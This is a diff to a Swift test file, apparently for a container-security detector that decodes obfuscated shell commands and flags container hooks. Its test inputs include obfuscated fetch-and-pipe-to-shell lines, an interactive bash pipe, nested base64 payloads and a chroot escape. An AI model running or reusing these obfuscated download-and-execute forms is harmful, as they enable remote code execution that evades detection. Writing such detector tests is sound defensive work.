@@ -13,6 +13,11 @@ import Testing
         (["sh", "-c", "\\c\\u\\r\\l 'http://x' >> /y"], ["sh -c curl http://x >> /y"]),
         (["printf", "\\x63\\x75\\x72\\x6c"], ["printf curl"]),
         (["sh", "-c", "a\nb"], ["sh -c a ; b"]),
+        (["sh", "-c", "chroot   /mnt"], ["sh -c chroot /mnt"]),
+        (["sh", "-c", "c$@u${*}rl $'http://x'|$\"sh\""], ["sh -c curl http://x | sh"]),
+        (["bash", "-c", "{curl,-s,http://x}|{bash,-i}"], ["bash -c curl -s http://x | bash -i"]),
+        (["echo", "{\"a\":1,\"b\":2}", "${a,b}"], ["echo {a:1,b:2} ${a,b}"]),
+        (["printf", "\\143\\165\\162\\154"], ["printf curl"]),
         (
             ["sh", "-c", "echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh"],
             ["sh -c echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh", "curl http://x | sh"]
@@ -29,6 +34,26 @@ import Testing
         let outer = "ZWNobyBZMmh5YjI5MElDOXRiblFnYzJnPSB8IGJhc2U2NCAtZCB8IHNo"
         let readings = CommandText.readings(of: ["sh", "-c", "echo \(outer) | base64 -d | sh"])
         #expect(readings.dropFirst() == [inner, "chroot /mnt sh"])
+    }
+
+    @Test func `hooks are told apart from the container's own command`() {
+        var deployment = ContainerDeployment(
+            event: .init(action: .containerCreate, dataset: .dockerAPI),
+            route: .dockerAPI
+        )
+        deployment.process.args = ["nginx"]
+        deployment.process.hooks = [["sh", "-c", "wget -qO- 'http://x'|sh"]]
+        #expect(deployment.hookCommands == ["sh -c wget -qO- http://x | sh"])
+        #expect(deployment.normalizedCommands == ["nginx", "sh -c wget -qO- http://x | sh"])
+    }
+
+    @Test func `a service account's namespace is read from its name`() {
+        var actor = ContainerDeployment.Actor()
+        #expect(actor.serviceAccountNamespace == nil)
+        actor.userName = "system:serviceaccount:web:frontend"
+        #expect(actor.serviceAccountNamespace == "web")
+        actor.userName = "system:serviceaccount:web"
+        #expect(actor.serviceAccountNamespace == nil)
     }
 
     @Test func `a path under a mount is written as the host path it leads to`() {
